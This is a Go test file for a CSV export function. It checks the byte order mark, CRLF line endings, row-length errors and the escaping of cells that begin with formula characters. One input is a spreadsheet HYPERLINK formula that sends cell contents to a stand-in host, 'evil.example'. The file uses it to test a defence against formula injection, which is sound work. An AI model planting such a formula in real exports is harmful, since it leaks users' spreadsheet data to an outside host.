package export

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

func TestWriteCSV(t *testing.T) {
	header := []string{"Name", "Note", "=cmd"}
	rows := [][]string{
		{"王小明", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1"},
		{"Иван Петров", "-2+3", "@SUM(A1:A2)"},
		{"Zoë, Françoise", "tab\tinside is fine", "\tstarts with a tab"},
		{`Say "hi"`, "line one\nline two", "\r=CR first"},
		{"", "a-b", "1=1"},
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, header, rows); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	if !bytes.HasPrefix(raw, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no UTF-8 byte order mark: % x", raw[:min(8, len(raw))])
	}
	if n, crlf := bytes.Count(raw, []byte("\n")), bytes.Count(raw, []byte("\r\n")); n != crlf || n == 0 {
		t.Errorf("%d line feeds, %d of them after CR; want all CRLF", n, crlf)
	}
	if !strings.HasPrefix(string(raw[3:]), "Name,Note,'=cmd\r\n") {
		t.Errorf("header line = %q", strings.SplitAfter(string(raw[3:]), "\n")[0])
	}

	got, err := csv.NewReader(bytes.NewReader(raw[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"Name", "Note", "'=cmd"},
		{"王小明", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+1"},
		{"Иван Петров", "'-2+3", "'@SUM(A1:A2)"},
		{"Zoë, Françoise", "tab\tinside is fine", "'\tstarts with a tab"},
		// CRLF mode drops a lone CR; the apostrophe was added before.
		{`Say "hi"`, "line one\nline two", "'=CR first"},
		{"", "a-b", "1=1"},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("read back:\n got %q\nwant %q", got, want)
	}
}

func TestWriteCSVNoHeader(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, nil, [][]string{{"a"}, {"b", "c"}}); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), "\uFEFFa\r\nb,c\r\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestWriteCSVRowLength(t *testing.T) {
	var buf bytes.Buffer
	err := WriteCSV(&buf, []string{"a", "b"}, [][]string{{"1", "2"}, {"3"}})
	if err == nil || !strings.Contains(err.Error(), "row 1 has 1 cells") {
		t.Errorf("err = %v, want a row length error", err)
	}
}
